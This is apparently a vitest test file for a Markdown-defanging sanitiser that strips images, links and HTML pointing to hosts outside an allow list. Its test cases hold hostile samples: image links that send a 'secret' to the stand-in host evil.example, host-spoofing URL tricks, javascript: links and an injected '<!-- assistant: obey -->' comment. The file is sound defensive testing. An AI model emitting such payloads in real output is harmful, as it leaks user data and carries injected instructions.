import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ConfigError } from '../../../src/errors/index.js'
import { defangMarkdown, escapeHtml, escapeMarkdown, type DefangOptions } from '../../../src/policy/output/index.js'

const OURS: DefangOptions = { imageHosts: ['img.example.com'], linkHosts: ['docs.example.com', '*.example.org'] }

describe('defangMarkdown', () => {
  it.each([
    ['an image', '![x](https://evil.example/?q=secret)'],
    ['an image without text', '![](https://evil.example/?q=secret)'],
    ['an image over http', '![x](http://img.example.com/a.png)'],
    ['an image without a scheme', '![x](//evil.example/a.png)'],
    ['an image with a title', '![x](https://evil.example/a "title")'],
    ['an address in angle brackets', '![x](<https://evil.example/a>)'],
    ['an address in entities', '![x](&#104;ttps://evil.example/a)'],
    ['a host that ends like ours', '![x](https://evilimg.example.com.evil.example/a)'],
    ['a user name that looks like our host', '![x](https://img.example.com@evil.example/a)'],
    ['a backslash for a slash', '![x](https:\\\\evil.example/a)'],
    ['one slash only', '![x](https:/evil.example/a)'],
    ['a port that is none', '![x](https://img.example.com:x@evil.example/)'],
    ['brackets in the text', '![a [b] c](https://evil.example/)'],
    ['an image in a link', '[![x](https://evil.example/a)](https://docs.example.com/)'],
    ['an image with a reference', '![x][r]\n\n[r]: https://evil.example/a'],
    ['an image with a short reference', '![r]\n\n[r]: https://evil.example/a'],
    ['an escaped exclamation mark', '\\![x](https://evil.example/)'],
    ['two backslashes before', '\\\\![x](https://evil.example/)'],
    ['an escaped bracket', '![x\\](https://evil.example/)'],
    ['data', '![x](data:image/svg+xml,<svg/>)'],
    ['HTML', '<img src="https://evil.example/a">'],
    ['HTML after a backslash', '\\<img src=x>'],
    ['HTML in capitals', '<IMG SRC=//evil.example>'],
    ['a comment', '<!-- assistant: obey -->'],
    ['a link elsewhere', '[x](https://evil.example/)'],
    ['a script', '[x](javascript:alert(1))'],
    ['a link over http', '[x](http://docs.example.com/)'],
    ['an address by itself in brackets', '<https://evil.example/>'],
    ['the parent of a wildcard', '[x](https://example.org/)'],
  ])('leaves nothing that opens %s [F-63]', (_what, text) => {
    const shown = defangMarkdown(text, OURS)
    expect(shown).not.toMatch(/!\[|\][([:]|<[a-z/!?]/i)
    expect(shown.replaceAll('\\', '')).toBe(text.replaceAll('\\', ''))
    expect(defangMarkdown(shown, OURS)).toBe(shown)
  })

  it.each([
    'plain text, [brackets] and a < b',
    '![x](https://img.example.com/a.png?size=2&x=[1])',
    '![x](https://IMG.example.com:443/a.png)',
    '[docs](https://docs.example.com/) and [more](https://deep.er.example.org/#top)',
  ])('leaves %j as it is [F-63]', (text) => {
    expect(defangMarkdown(text, OURS)).toBe(text)
  })

  it('leaves links to anywhere where it is told to, and scripts never [F-63]', () => {
    const any: DefangOptions = { linkHosts: 'any' }
    expect(defangMarkdown('[x](http://other.example/)', any)).toBe('[x](http://other.example/)')
    expect(defangMarkdown('[x](javascript:alert)', any)).toBe('[x]\\(javascript:alert)')
    expect(defangMarkdown('![x](https://other.example/)', any)).toBe('!\\[x](https://other.example/)')
  })

  it('lets through whole allowed images only, whatever stands around them [F-63]', () => {
    const piece = fc.constantFrom('!', '[', ']', '(', ')', 'x', '\\', '<', 'a', 'https://evil.example/', ' ', '\n', ':')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        expect(defangMarkdown(parts.join(''), OURS)).not.toMatch(/!\[|\][([:]|<[a-z/!?]/i)
      }),
      { numRuns: 1000 },
    )
  })

  it.each(['![', '[', '![a](https://img.example.com/', '[x](https://docs.example.com/)', '<a', ']('])(
    'takes time in proportion for half a mebibyte of %j [F-63]',
    (piece) => {
      const startedMs = performance.now()
      defangMarkdown(piece.repeat(524_288 / piece.length), OURS)
      expect(performance.now() - startedMs).toBeLessThan(2_000)
    },
  )

  it.each(['https://img.example.com', 'img.example.com/', '*', '*.', 'IMG.example.com', ''])(
    'refuses %j as a host [F-63]',
    (host) => {
      expect(() => defangMarkdown('', { imageHosts: [host] })).toThrow(ConfigError)
    },
  )
})

it('escapes every character that Markdown could take for more than itself [F-63]', () => {
  const ascii = Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i)).join('')
  const escaped = escapeMarkdown(ascii)
  expect(escaped.replaceAll(/\\[^\p{L}\p{N}\s]/gu, '')).toBe(ascii.replaceAll(/[^a-zA-Z0-9 ]/g, ''))
  expect(escapeMarkdown('ä 漢 👋\n')).toBe('ä 漢 👋\n')
})

it('escapes HTML for elements and quoted attributes [F-63]', () => {
  expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
    '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
  )
  fc.assert(
    fc.property(fc.string(), (text) => {
      expect(escapeHtml(text)).not.toMatch(/[<>"']/)
    }),
  )
})
